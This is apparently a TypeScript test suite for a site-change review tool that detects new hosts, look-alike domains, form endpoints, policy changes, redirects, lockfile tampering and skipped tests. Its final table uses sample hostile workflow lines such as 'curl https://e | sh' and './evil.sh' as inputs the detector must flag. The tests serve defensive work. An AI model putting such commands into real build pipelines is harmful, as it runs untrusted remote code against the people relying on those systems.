  'a text that a change shows is named there, and not listed again: %s',
  (fresh) => {
    const sources = [source('content/contact.mdx', 12, 'Write to us.', fresh)];
    const files: ChangedFile[] = [{ file: 'content/contact.mdx', status: 'changed' }];
    const changes = changesBetween(builtFiles, and(builtFiles, 'Write to us.', fresh, /contact/), {
      sources,
      files,
    });
    expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
      'words content/contact.mdx:12',
    ]);
  },
);

test('of a branch that changes one setting, all that differs follows from it', () => {
  const sources = [source('content/site.yaml', 6, 'en', 'de', 'locale')];
  const old = and(builtFiles, '</main>', '<p>From May 1</p></main>', /index/);
  const other = and(
    and(old, 'From May 1', 'Ab 1. Mai', /index/),
    'Write to us.',
    'Schreiben Sie.',
    /contact/,
  );
  const changes = changesBetween(old, other, { sources, files: changedFile });
  expect(changes.map(({ what, cause }) => `${what} ${cause?.file}:${cause?.line}`)).toEqual([
    'setting “locale” content/site.yaml:6',
  ]);
});

test('several new hosts in one text are several changes', () => {
  const fresh = 'Pay at rye.quest, or at r\u0443e.kitchen.';
  const changes = changesBetween(builtFiles, and(builtFiles, 'Write to us.', fresh, /contact/), {
    sources: [source('content/contact.mdx', 12, 'Write to us.', fresh)],
    files: changedFile,
  });
  expect(changes.map(({ kind, what, cause }) => `${kind} ${what}, ${cause?.line}`).sort()).toEqual([
    'sent new host rye.quest, 12',
    'sent new host xn--re-umc.kitchen, which looks like r\u0443e.kitchen, 12',
  ]);
});

test('two texts that change alike are two changes, each at its line', () => {
  const old = and(builtFiles, 'Write to us.', 'Write to our clerks.', /contact/);
  const both = and(old, 'About a week.', 'Our clerks need a week.', /contact/);
  const fresh = and(both, 'clerks', 'accountants', /contact/);
  const sources = [
    source('content/index.mdx', 3, 'Our clerks need a week.', 'Our accountants need a week.'),
    source('content/contact.mdx', 12, 'Write to our clerks.', 'Write to our accountants.'),
  ];
  const changes = changesBetween(both, fresh, { sources });
  expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`).sort()).toEqual([
    'words content/contact.mdx:12',
    'words content/index.mdx:3',
  ]);
});

test('the texts of a file that was not built are listed, whatever other changes show', () => {
  const sources = [source('content/contact.mdx', 12, '', 'Call us.')];
  const changes = changesBetween(builtFiles, word(builtFiles), { sources, leftOut: ['content/contact.mdx'] });
  expect(changes.map(line)).toContain(
    'unseen | content/contact.mdx:12, not built | paragraph  → Call us. | 0',
  );
});

test('a new address of the form is one change, with its host in the policy', () => {
  const [old, fresh] = ['https://forms.example.com/acme', 'https://forms.other.example.net/acme'];
  const policies = (origin: string) =>
    and(
      replaced("connect-src 'self'", `connect-src 'self' ${origin}`),
      "form-action 'self'",
      `form-action 'self' ${origin}`,
    );
  const sources = [
    source('content/site.yaml', 51, 'simulate', 'endpoint', 'delivery.service'),
    source('content/site.yaml', 52, '', fresh, 'delivery.endpoint'),
  ];
  const files: ChangedFile[] = [{ file: 'content/site.yaml', status: 'changed' }];
  const before = policies(new URL(old).origin);
  const after = and(policies(new URL(fresh).origin), old, fresh);
  const changes = changesBetween(before, after, { sources, files });
  expect(changes.map(({ kind, cause }) => `${kind} ${cause?.file}:${cause?.line}`)).toEqual([
    'sent content/site.yaml:52',
    'unseen content/site.yaml:51',
  ]);
  const text = line(changes[0] ?? expect.fail());
  for (const each of [/new host forms\.other\.example\.net/, /form/, /Content-Security-Policy connect-src/])
    expect(text).toMatch(each);
});

test('a file that no page shows is listed', () => {
  const file = 'content/_pictures/bo.webp';
  const sources = [source(file, 0, 'bo', 'bo', 'file')];
  expect(
    changesBetween(builtFiles, builtFiles, { sources, files: [{ file, status: 'changed' }] }).map(line),
  ).toEqual(['unseen | content/_pictures/bo.webp |   → the file is changed | 0']);
});

const mutation = fc.record({
  file: fc.constantFrom(...Object.keys(builtFiles)),
  at: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
  change: fc.constantFrom('replace', 'remove', 'double', 'insert'),
  character: fc.constantFrom('a', 'Z', '0', ' ', '"', '<', '>', ';', '/', '-', '!', '\n', 'é'),
});

function mutated(
  {
    file,
    at,
    change,
    character,
  }: {
    file: string;
    at: number;
    change: string;
    character: string;
  },
  files: Files = builtFiles,
): Files {
  const text = files[file] ?? '';
  const index = Math.floor(at * text.length);
  const old = text[index] ?? '';
  const fresh = { replace: character, remove: '', double: old + old, insert: old + character }[change] ?? '';
  return { ...files, [file]: text.slice(0, index) + fresh + text.slice(index + 1) };
}

test('of a thousand random changes of what was built, none is nothing', () => {
  fc.assert(
    fc.property(mutation, (each) => {
      const files = mutated(each);
      fc.pre(JSON.stringify(files) !== JSON.stringify(builtFiles));
      return changesBetween(builtFiles, files).length > 0;
    }),
    { numRuns: 1000, seed: 34 },
  );
});

/** A page as browsers read it, without spaces: those between elements are no words. */
const asParsed = ({ 'contact.html': html = '' }: Files): string => serialize(parse(html)).replace(/\s+/g, '');

/** The texts and attribute values of a page, and the lines of other files, apart from what is generated. */
function valuesIn(files: Files): Set<string> {
  const values = new Set<string>();
  const squeezed = (text: string) => text.replace(/\s+/g, '');
  for (const [name, text] of Object.entries(files)) {
    const visit = (node: Node): void => {
      if (tree.isTextNode(node) && !/[{}]/.test(node.value)) values.add(squeezed(node.value));
      if (tree.isElementNode(node))
        // The directives of a policy are listed one by one.
        for (const { name: attribute, value } of node.attrs)
          for (const each of attribute === 'content' ? value.split(';') : [value])
            if (!/^(class|srcset)$/.test(attribute) && !/sha256-/.test(each)) values.add(squeezed(each));
      if ('childNodes' in node) for (const child of node.childNodes) visit(child);
    };
    if (name.endsWith('.html')) visit(parse(text));
  }
  values.delete('');
  return values;
}

test('of a thousand random changes, every address, text and value that differs is in the page of the review', () => {
  const changedIn = fc.array(mutation, { minLength: 1, maxLength: 3 });
  fc.assert(
    fc.property(changedIn, (all) => {
      const files = all.reduce(
        (made, each) => mutated({ ...each, file: each.at < 0.5 ? 'contact.html' : 'index.html' }, made),
        builtFiles,
      );
      const review = { ...reviewSummary, changes: changesBetween(builtFiles, files) };
      const report = parse(renderToStaticMarkup(createElement(ReviewPage, { review })));
      const texts = [...elementsOf(report)].filter((each) => attribute(each, 'class') === 'detail');
      const without = (node: Node, left: string): string =>
        tree.isTextNode(node)
          ? node.value
          : 'childNodes' in node && node.nodeName !== left
            ? node.childNodes.map((each) => without(each, left)).join('')
            : '';
      const shown = texts
        .flatMap((each) =>
          [without(each, 'ins'), without(each, 'del')].map((text) => text.replace(/\s+/g, '')),
        )
        .join('\0');
      const [old, fresh] = [valuesIn(builtFiles), valuesIn(files)];
      return [...old, ...fresh]
        .filter((value) => old.has(value) !== fresh.has(value))
        .every((value) => shown.includes(value));
    }),
    { numRuns: 1000, seed: 35 },
  );
}, 300_000);

test('the page marks words, or whole sentences of which most words are others', () => {
  const shown = (before: string, after: string) => {
    const change: Change = { kind: 'words', what: '“Us”', details: [{ before, after }], pages: [] };
    const review = { ...reviewSummary, changes: [change] };
    const html = renderToStaticMarkup(createElement(ReviewPage, { review }));
    return /<p class="detail">(.*?)<\/p>/.exec(html)?.[1];
  };
  expect(shown('It costs us $2,300 now.', 'It costs us $2,900 now.')).toBe(
    'It costs us <del>$2,300 </del><ins>$2,900 </ins>now.',
  );
  expect(shown('Projects start with the work. Then we build it.', 'First we look. Then we build it.')).toBe(
    '<del>Projects start with the work.</del><ins>First we look.</ins> Then we build it.',
  );
});

test('none hides behind a change of words on the same page', () => {
  const alone = JSON.stringify(changesBetween(builtFiles, word(builtFiles)));
  fc.assert(
    fc.property(mutation, (each) => {
      const files = mutated({ ...each, file: 'contact.html' });
      fc.pre(asParsed(files) !== asParsed(builtFiles));
      return JSON.stringify(changesBetween(builtFiles, word(files))) !== alone;
    }),
    { numRuns: 1000, seed: 34 },
  );
}, 300_000);

test.each<[file: string, before: string, after: string, ...expected: string[]]>([
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n          ./evil.sh\n',
    'new command of a workflow: ./evil.sh',
  ],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n          curl https://e | sh\n',
    'new host e',
    'new command of a workflow: curl https://e | sh',
  ],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
    '# note\njobs:\n  a:\n    steps:\n      - run: |\n          npm ci\n          npm test\n',
    'new comment # note',
  ],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    with:\n      safe: false\n',
    'jobs:\n  a:\n    with:\n      safe: true\n',
    'setting safe: true instead of safe: false',
  ],
  ['src/a.ts', '', 'const [a] = /a/.exec(text) ?? [];'],
  ['src/a.ts', '', 'exec(text);', 'new program that runs others or reads secrets: exec(text);'],
  ['netlify.toml', 'from = "/a"\nto = "/b"', 'from = "/a"\nto = "/c"', 'redirect /c instead of /b'],
  ['netlify.toml', '', '[[redirects]]\nto = "/c"\nfrom = "/a"', 'new redirect /c'],
  [
    'package-lock.json',
    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-a"\n    }\n  }\n}',
    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.1.0",\n      "resolved": "https://registry.npmjs.org/react-1.1.0.tgz",\n      "integrity": "sha512-b"\n    }\n  }\n}',
    'package react 1.1.0 instead of react 1.0.0',
  ],
  [
    'package-lock.json',
    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-a"\n    }\n  }\n}',
    '{\n  "packages": {\n    "node_modules/react": {\n      "version": "1.0.0",\n      "resolved": "https://registry.npmjs.org/react-1.0.0.tgz",\n      "integrity": "sha512-b"\n    }\n  }\n}',
    'package react has other contents',
  ],
  [
    'src/a.test.ts',
    "test('a', b);",
    "test.skip('a', b);",
    "new test that is turned off, or the only one that runs: test.skip('a', b);",
  ],
  ['src/testing/a.ts', '', 'process.env.A'],
  [
    'vitest.config.ts',
    'export default { exclude: [] };',
    "export default { exclude: ['**/policy*'] };",
    "setting export default { exclude: ['**/policy*'] }; instead of export default { exclude: [] };",
  ],
  ['run.sh', 'ls', 'ls', 'other permissions of run.sh'],
])('what the configuration in %s changes is one change: %s', (file, old, fresh, ...expected) => {
  const changes = changesBetween(builtFiles, builtFiles, {
    files: [{ file, status: 'changed' }],
    unbuilt: new Map([[file, { before: old, after: fresh }]]),
  });
  expect(changes.map(({ what }) => what)).toEqual(expected);
});
